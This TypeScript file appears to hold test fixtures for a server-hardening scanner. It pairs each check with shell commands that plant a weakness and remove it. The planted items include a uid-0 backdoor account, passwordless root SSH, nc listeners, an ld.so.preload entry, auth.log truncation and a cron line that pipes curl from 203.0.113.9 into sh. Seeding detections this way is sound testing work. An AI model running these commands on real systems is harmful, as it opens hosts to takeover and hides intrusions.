// Weaknesses to plant on a real server, each with what takes it away again and which check must find it. The hardened
// twin has none of them; image/hardened.sh makes it.
import { OF_SERVICES } from './service-weaknesses.ts';
import { KEPT, type Weakness } from './weakness.ts';

const SSHD = '/etc/ssh/sshd_config.d/00-weak.conf';
const reload = 'systemctl reload ssh';
const UPGRADE = '/etc/systemd/system/apt-daily-upgrade.service.d';
const listen = (name: string, port: number) => ({
  plant: `systemd-run --quiet --unit=${name} nc -lk 0.0.0.0 ${port}`,
  remove: `systemctl stop ${name}`,
});

const OF_THE_HOST: readonly Weakness[] = [
  {
    check: 'SSH-001',
    shows: '"permitrootlogin":"yes"',
    plant: `printf 'PermitRootLogin yes\\nPasswordAuthentication yes\\n' > ${SSHD} && ${reload}`,
    remove: `rm ${SSHD} && ${reload}`,
  },
  {
    check: 'SSH-002',
    shows: '"match":"User deploy"',
    plant: `printf 'Match User deploy\\n  PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/90-weak.conf && ${reload}`,
    remove: `rm /etc/ssh/sshd_config.d/90-weak.conf && ${reload}`,
  },
  {
    check: 'SSH-003',
    shows: 'port tcp/22',
    plant: `printf 'Port 22\\n' > /etc/ssh/sshd_config.d/04-weak.conf && systemctl restart ssh`,
    remove: `rm /etc/ssh/sshd_config.d/04-weak.conf && systemctl restart ssh`,
  },
  {
    check: 'SSH-004',
    shows: '"permitemptypasswords":true',
    plant: `printf 'PermitEmptyPasswords yes\\n' > /etc/ssh/sshd_config.d/02-weak.conf && ${reload}`,
    remove: `rm /etc/ssh/sshd_config.d/02-weak.conf && ${reload}`,
  },
  {
    check: 'SSH-005',
    shows: 'aes128-cbc',
    plant: `printf 'Ciphers aes256-gcm@openssh.com,aes128-cbc\\n' > /etc/ssh/sshd_config.d/00-weak-ciphers.conf && ${reload}`,
    remove: `rm /etc/ssh/sshd_config.d/00-weak-ciphers.conf && ${reload}`,
  },
  {
    check: 'KEY-003',
    shows: '"bits":1024',
    plant:
      'install -d -m 0700 -o deploy -g deploy /home/deploy/.ssh && ssh-keygen -q -t rsa -b 1024 -N "" -f /root/weak && ' +
      'install -m 0600 -o deploy -g deploy /root/weak.pub /home/deploy/.ssh/authorized_keys',
    remove: 'rm -f /home/deploy/.ssh/authorized_keys /root/weak /root/weak.pub',
  },
  {
    check: 'KEY-005',
    shows: '"path":"/root/.ssh/authorized_keys"',
    plant: 'install -d -m 0700 /root/.ssh && touch /root/.ssh/authorized_keys && chmod 0666 /root/.ssh/authorized_keys',
    remove: 'rm /root/.ssh/authorized_keys',
  },
  {
    check: 'ACC-001',
    shows: 'account toor',
    plant: 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor',
    remove: `sed -i '/^toor:/d' /etc/passwd /etc/shadow`,
  },
  {
    check: 'ACC-002',
    shows: 'account guest',
    plant: 'useradd -m -s /bin/bash guest && passwd -qd guest',
    remove: 'userdel -r guest 2>/dev/null',
  },
  {
    check: 'ACC-006',
    shows: '"rule":"NOPASSWD"',
    plant: `printf 'deploy ALL=(ALL) NOPASSWD: ALL\\n' > /etc/sudoers.d/weak && chmod 0440 /etc/sudoers.d/weak`,
    remove: 'rm /etc/sudoers.d/weak',
  },
  {
    check: 'ACC-007',
    shows: '/etc/sudoers.d/loose',
    plant: `printf '# nothing\\n' > /etc/sudoers.d/loose && chmod 0666 /etc/sudoers.d/loose`,
    remove: 'rm /etc/sudoers.d/loose',
  },
  {
    check: 'ACC-008',
    shows: '"minlen":6',
    plant: `printf 'minlen = 6\\n' > /etc/security/pwquality.conf.d/90-weak.conf`,
    remove: 'rm /etc/security/pwquality.conf.d/90-weak.conf',
  },
  {
    check: 'FW-001',
    shows: 'policy accept',
    plant: `nft 'add chain inet filter input { policy accept; }'`,
    remove: `nft 'add chain inet filter input { policy drop; }'`,
  },
  { check: 'FW-004', shows: '"service":"Cassandra"', ...listen('weak-store', 9042) },
  {
    check: 'FW-008',
    shows: '"ended":"2026-01-31"',
    plant: `nft 'add table inet errand; add chain inet errand allowed; add rule inet errand allowed tcp dport 8081 accept comment "Migration, until 2026-01-31"'`,
    remove: 'nft delete table inet errand',
  },
  {
    check: 'FW-010',
    shows: 'inet loose/input',
    plant: `nft 'add table inet loose; add chain inet loose input { type filter hook input priority 10; }; add rule inet loose input accept'`,
    remove: 'nft delete table inet loose',
  },
  { check: 'FW-011', shows: '"service":"Plesk"', ...listen('weak-panel', 8443) },
  {
    check: 'FW-013',
    shows: '"sets":"country_deny"',
    plant: `touch -d '60 days ago' /etc/nftables.d/country_deny.nft`,
    remove: 'touch /etc/nftables.d/country_deny.nft',
  },
  {
    check: 'F2B-001',
    shows: '"enabled":false',
    plant: 'systemctl --quiet disable fail2ban 2>/dev/null',
    remove: 'systemctl --quiet enable fail2ban 2>/dev/null',
  },
  {
    check: 'F2B-002',
    shows: '"jail":"pure-ftpd"',
    plant: `cp /usr/bin/nc.openbsd /usr/local/bin/pure-ftpd && systemd-run --quiet --unit=weak-ftp /usr/local/bin/pure-ftpd -lk 0.0.0.0 21`,
    remove: 'systemctl stop weak-ftp; rm /usr/local/bin/pure-ftpd',
  },
  {
    check: 'F2B-004',
    shows: '"counted":"nothing"',
    plant:
      'for n in $(seq 40); do fail2ban-client set sshd delfailregex 0 >/dev/null 2>&1 || break; done; ' +
      `mkdir -p ${KEPT} && printf '{"at":%s,"total":%s,"span":null}' $(($(date +%s) - 60)) ` +
      `$(fail2ban-client status sshd | sed -n 's/.*Total failed:[^0-9]*//p') > ${KEPT}/jail-sight.json && ` +
      'for n in 1 2 3 4 5 6; do ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 2222 ' +
      `guess$n@$(hostname -I | cut -d' ' -f1) true 2>/dev/null || true; done && sleep 1 && ` +
      `journalctl -q -t sshd --since=-1min --grep='^Invalid user guess' >/dev/null`,
    remove: `fail2ban-client restart sshd >/dev/null; rm -f ${KEPT}/jail-sight.json`,
  },
  {
    check: 'F2B-005',
    shows: '198.51.100.7',
    plant: `fail2ban-client set sshd banip 198.51.100.7 >/dev/null && sleep 1 && nft delete element inet f2b-table addr-set-sshd '{ 198.51.100.7 }'`,
    // The jail keeps its rule: without one nobody knows which ports it closes (F2B-003).
    remove: `nft add element inet f2b-table addr-set-sshd '{ 198.51.100.7 }'; fail2ban-client set sshd unbanip 198.51.100.7 >/dev/null`,
  },
  {
    check: 'F2B-003',
    shows: '2200',
    // The rule, with its ports, comes with the first ban.
    plant: `printf 'Port 2200\\n' > /etc/ssh/sshd_config.d/06-weak-port.conf && systemctl restart ssh && fail2ban-client set sshd banip 198.51.100.8 >/dev/null && sleep 1`,
    remove: `rm /etc/ssh/sshd_config.d/06-weak-port.conf && systemctl restart ssh && fail2ban-client set sshd unbanip 198.51.100.8 >/dev/null`,
  },
  {
    check: 'F2B-007',
    shows: '"maxretry":30',
    plant: 'fail2ban-client set sshd maxretry 30 >/dev/null',
    remove: 'fail2ban-client set sshd maxretry 4 >/dev/null',
  },
  {
    check: 'F2B-008',
    shows: 'weak',
    plant: `printf '[weak]\\nenabled = true\\nfilter = sshd\\nbackend = polling\\nlogpath = /var/log/not-there.log\\n' > /etc/fail2ban/jail.d/weak.local`,
    remove: 'rm /etc/fail2ban/jail.d/weak.local',
  },
  {
    check: 'F2B-009',
    shows: '"mode":"0777"',
    plant: 'chmod 0777 /run/fail2ban/fail2ban.sock',
    remove: 'chmod 0700 /run/fail2ban/fail2ban.sock',
  },
  {
    check: 'UPD-001',
    shows: 'tzdata',
    // The oldest version that the mirror has: that of the release, before its security updates.
    plant: `apt-get install -y -qq --allow-downgrades tzdata="$(apt-cache madison tzdata | awk 'END { print $3 }')" >/dev/null 2>&1`,
    remove: 'apt-get install -y -qq tzdata >/dev/null 2>&1',
  },
  {
    check: 'UPD-002',
    shows: '"timers":false',
    plant: 'systemctl --quiet stop apt-daily.timer',
    remove: 'systemctl --quiet start apt-daily.timer',
  },
  {
    check: 'UPD-003',
    shows: '"result":"exit-code"',
    plant:
      `mkdir -p ${UPGRADE} && printf '[Service]\\nExecStart=\\nExecStart=/bin/false\\n' > ${UPGRADE}/weak.conf && ` +
      'systemctl daemon-reload && ! systemctl start apt-daily-upgrade.service 2>/dev/null',
    remove: `rm -r ${UPGRADE} && systemctl daemon-reload && systemctl reset-failed apt-daily-upgrade.service`,
  },
  {
    check: 'UPD-005',
    shows: 'linux-image-amd64',
    plant: `touch /run/reboot-required && printf 'linux-image-amd64\\n' > /run/reboot-required.pkgs`,
    remove: 'rm /run/reboot-required /run/reboot-required.pkgs',
  },
  {
    check: 'UPD-007',
    shows: '2024-06-30',
    plant: `cp /etc/os-release /root/os-release && sed 's/^VERSION_ID=.*/VERSION_ID="10"/' /root/os-release > /etc/os-release`,
    remove: 'cp /root/os-release /etc/os-release && rm /root/os-release',
  },
  {
    check: 'FILE-001',
    shows: '/var/www/html/open',
    plant: 'mkdir /var/www/html/open && chmod 0777 /var/www/html/open',
    remove: 'rmdir /var/www/html/open',
  },
  {
    check: 'FILE-002',
    shows: '"folder":"/var/www/loose.test"',
    plant:
      'mkdir -p /var/www/loose.test/images && touch /var/www/loose.test/images/logo.png && chmod 0775 /var/www/loose.test/images/logo.png',
    remove: 'rm -r /var/www/loose.test',
  },
  {
    check: 'FILE-003',
    shows: '/var/www/html/.env',
    plant: `printf 'DB_PASSWORD=seeded-secret-7f3a\\n' > /var/www/html/.env && chmod 0644 /var/www/html/.env`,
    remove: 'rm /var/www/html/.env',
  },
  {
    check: 'FILE-004',
    shows: '/var/www/html/dump.sql',
    plant: 'head -c 2097152 /dev/zero > /var/www/html/dump.sql && chmod 0600 /var/www/html/dump.sql',
    remove: 'rm /var/www/html/dump.sql',
  },
  {
    check: 'PER-002',
    shows: '/etc/cron.d/weak:1',
    plant: `printf '* * 31 2 * root curl -s -H "Authorization: seeded-secret-7f3a" http://203.0.113.9/x | sh\\n' > /etc/cron.d/weak`,
    remove: 'rm /etc/cron.d/weak',
  },
  {
    check: 'PER-003',
    shows: '/etc/systemd/system/weak.service',
    plant: `printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/weak.service`,
    remove: 'rm /etc/systemd/system/weak.service',
  },
  {
    check: 'PER-005',
    shows: '/lib/x86_64-linux-gnu/libm.so.6',
    plant: `printf '/lib/x86_64-linux-gnu/libm.so.6\\n' > /etc/ld.so.preload`,
    remove: 'rm /etc/ld.so.preload',
  },
  {
    check: 'PER-006',
    shows: '/tmp/weak',
    plant: 'cp /bin/sleep /tmp/weak && systemd-run --quiet --unit=weak-program /tmp/weak 3600',
    remove: 'systemctl stop weak-program; rm /tmp/weak',
  },
  {
    check: 'LOG-001',
    shows: '"retention":"1week"',
    plant: `mkdir -p /etc/systemd/journald.conf.d && printf '[Journal]\\nMaxRetentionSec=1week\\n' > /etc/systemd/journald.conf.d/weak.conf`,
    remove: 'rm /etc/systemd/journald.conf.d/weak.conf',
  },
  {
    check: 'KEY-001',
    shows: '"comment":"ops-former"',
    // A ledger as it is after two hundred days, in which this key was last used four months ago.
    plant: `fingerprint=$(ssh-keygen -lf /root/ops-former.pub | cut -d' ' -f2) && now=$(date +%s) && mkdir -p ${KEPT} && printf '{"since":%s,"cursor":null,"uses":[{"account":"ops","fingerprint":"%s","firstAt":%s,"lastAt":%s,"from":"198.51.100.20","count":3}],"networks":[{"account":"ops","network":"198.51.100.0/24","firstAt":%s}]}' $((now-17280000)) "$fingerprint" $((now-17000000)) $((now-10368000)) $((now-17000000)) > ${KEPT}/key-uses.json`,
    remove: `rm ${KEPT}/key-uses.json`,
  },
  {
    check: 'KEY-006',
    shows: '"comment":"added-by-hand"',
    plant: `ssh-keygen -q -t ed25519 -N '' -C added-by-hand -f /root/by-hand && cat /root/by-hand.pub >> /home/ops/.ssh/authorized_keys`,
    remove: `sed -i '/added-by-hand$/d' /home/ops/.ssh/authorized_keys && rm /root/by-hand /root/by-hand.pub`,
  },
  {
    check: 'ACC-003',
    shows: 'account idle',
    plant: `useradd -m -s /bin/bash idle && echo 'idle:seeded-secret-7f3a' | chpasswd`,
    remove: 'userdel -r idle 2>/dev/null',
  },
  {
    check: 'ACC-004',
    shows: 'account contractor',
    plant: `useradd -m -s /bin/bash -e 2026-01-31 contractor && install -d -m 0700 -o contractor /home/contractor/.ssh && install -m 0600 -o contractor /root/ops-laptop.pub /home/contractor/.ssh/authorized_keys`,
    remove: 'userdel -r contractor 2>/dev/null',
  },
  {
    check: 'ACC-005',
    shows: 'deploy in sudo',
    plant: 'usermod -aG sudo deploy',
    remove: 'gpasswd -d deploy sudo >/dev/null',
  },
  {
    check: 'ACC-014',
    shows: 'ops from 127.0.0.0/24',
    // The sign-in is a real one; that the account has a past elsewhere is in the ledger of KEY-001.
    plant: `ssh -i /root/ops-laptop -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -p 2222 ops@127.0.0.1 true`,
    remove: 'true',
  },
  {
    check: 'ACC-015',
    shows: '/var/www/plain.test/.env',
    plant: `mkdir -p /var/www/plain.test && printf 'APP_DEBUG=true\\nDB_PASSWORD=Summer2024!\\n' > /var/www/plain.test/.env && chmod 0640 /var/www/plain.test/.env && chgrp www-data /var/www/plain.test/.env`,
    remove: 'rm /var/www/plain.test/.env',
  },
  {
    check: 'FW-002',
    shows: '"manager":"none"',
    plant: 'systemctl --quiet disable nftables 2>/dev/null',
    remove: 'systemctl --quiet enable nftables 2>/dev/null',
  },
  { check: 'FW-003', shows: 'port tcp/4444 of nc', ...listen('weak-port', 4444) },
  {
    check: 'FW-007',
    shows: 'port tcp/8088',
    plant: `nft 'add table ip weaknat; add chain ip weaknat prerouting { type nat hook prerouting priority -100; }; add rule ip weaknat prerouting tcp dport 8088 dnat to 172.17.0.9:80'`,
    remove: 'nft delete table ip weaknat',
  },
  {
    check: 'FILE-005',
    shows: '/usr/local/bin/weak-root',
    plant: 'cp /bin/true /usr/local/bin/weak-root && chmod 4755 /usr/local/bin/weak-root',
    remove: 'rm /usr/local/bin/weak-root',
  },
  {
    check: 'PER-001',
    shows: '/etc/cron.d/backdoor',
    plant: `printf '17 3 * * * root /usr/local/sbin/report seeded-secret-7f3a\\n' > /etc/cron.d/backdoor`,
    remove: 'rm /etc/cron.d/backdoor',
  },
  {
    check: 'PER-008',
    shows: '/etc/profile.d/weak.sh',
    plant: `printf '# seeded-secret-7f3a\\n' > /etc/profile.d/weak.sh`,
    remove: 'rm /etc/profile.d/weak.sh',
  },
  {
    check: 'LOG-005',
    shows: '/var/log/auth.log',
    plant: 'truncate -s 0 /var/log/auth.log',
    remove: `sed -i 's/"cuts":.*/"cuts":[]}/' ${KEPT}/log-files.json`,
  },
];

export const WEAKNESSES: readonly Weakness[] = [...OF_THE_HOST, ...OF_SERVICES];

/**
 * What the hardened server has as well, and the finding shows: a container has the kernel of its host and no audit of its own, and
 * Debian 12 has PHP 8.2, which its makers no longer improve. What passes is in specs on recordings.
 */
export const OF_EVERY_SERVER: Readonly<Record<string, string>> = {
  'KRN-001': 'kernel.kptr_restrict = 0',
  'KRN-002': 'net.ipv4.conf.all.send_redirects = 1',
  'LOG-003': '"installed":false',
  'PHP-002': '"version":"8.2"',
};
